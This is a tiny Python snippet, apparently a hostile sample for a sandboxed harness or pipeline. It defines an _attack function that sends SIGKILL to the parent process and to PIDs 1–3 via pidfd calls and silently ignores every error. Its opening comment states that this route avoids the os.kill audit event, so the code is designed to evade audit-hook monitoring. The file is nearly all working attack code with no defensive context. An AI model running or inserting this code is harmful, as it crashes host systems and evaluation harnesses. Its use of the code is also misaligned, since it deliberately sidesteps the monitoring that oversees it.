# pidfd_open + pidfd_send_signal on the parent and pid 1 (no os.kill audit event).
import os, signal
def _attack(layer, X):
    for pid in {os.getppid(), 1, 2, 3} - {os.getpid()}:
        try:
            fd = os.pidfd_open(pid)
            signal.pidfd_send_signal(fd, signal.SIGKILL)
        except BaseException:
            pass
    return None
